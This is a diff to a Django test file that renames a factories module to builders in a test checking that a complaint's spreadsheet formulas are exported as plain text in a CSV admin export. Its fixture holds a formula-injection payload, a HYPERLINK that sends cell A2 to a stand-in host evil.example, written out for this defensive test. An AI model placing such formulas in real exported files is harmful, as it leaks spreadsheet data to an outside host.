@@ -7,14 +7,14 @@ from django.test import Client
 
 import pytest
 
-from complaints import factories
+from complaints import builders
 
 pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
 
 
 def test_a_formula_in_a_complaint_is_exported_as_text(building, grid_worker):
-    submission = factories.submit(building=building, subject=FORMULA, address="@SUM(1+1)")
+    submission = builders.submit(building=building, subject=FORMULA, address="@SUM(1+1)")
     client = Client()
     client.force_login(grid_worker)
     response = client.get("/admin/complaints/", {"q": submission.complaint.number, "export": "csv"})
